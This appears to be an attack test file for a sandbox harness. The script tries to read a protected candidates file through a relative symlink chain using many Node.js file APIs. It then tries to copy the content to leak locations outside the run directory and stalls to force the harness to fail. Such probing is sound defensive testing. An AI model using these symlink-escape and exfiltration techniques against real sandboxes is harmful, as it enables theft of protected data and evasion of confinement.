/* @attack {"title": "read the candidates file through the run dir's relative symlink chain (c2 -> c1 -> the lakehouse) by every read API", "setup": ["rel-symlink-chain"], "maxSeconds": 20} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
const viaCallback = (call) => new Promise((resolve, reject) => call((error, value) => (error ? reject(error) : resolve(value))));
const via = [`${run}/c2/portfolio_candidates.json`, `${run}/c1/portfolio_candidates.json`, 'runs/attacker/c2/portfolio_candidates.json', `${run}/c2/ohlcv/../portfolio_candidates.json`];
for (const p of via) await attempt(`readFileSync ${p}`, () => fs.readFileSync(p));
await attempt('readFile callback', () => viaCallback((cb) => fs.readFile(via[0], cb)));
await attempt('promises.readFile', () => fs.promises.readFile(via[1]));
await attempt('open+readSync', () => {
  const buf = Buffer.alloc(4096);
  return buf.subarray(0, fs.readSync(fs.openSync(via[0], 'r'), buf));
});
await attempt('createReadStream', async () => {
  const chunks = [];
  for await (const c of fs.createReadStream(via[0])) chunks.push(c);
  return Buffer.concat(chunks);
});
await attempt('opendir c2 then read', async () => {
  const names = [];
  for await (const e of await fs.promises.opendir(`${run}/c2`)) names.push(e.name);
  return fs.readFileSync(`${run}/c2/${names.find((n) => n.endsWith('.json'))}`);
});
await attempt('cpSync c2 into the run dir', () => {
  fs.cpSync(`${run}/c2`, `${run}/copy`, { recursive: true, dereference: true });
  return fs.readFileSync(`${run}/copy/portfolio_candidates.json`);
});
await attempt('copyFileSync through c2', () => {
  fs.copyFileSync(via[0], `${run}/copied.json`);
  return fs.readFileSync(`${run}/copied.json`);
});
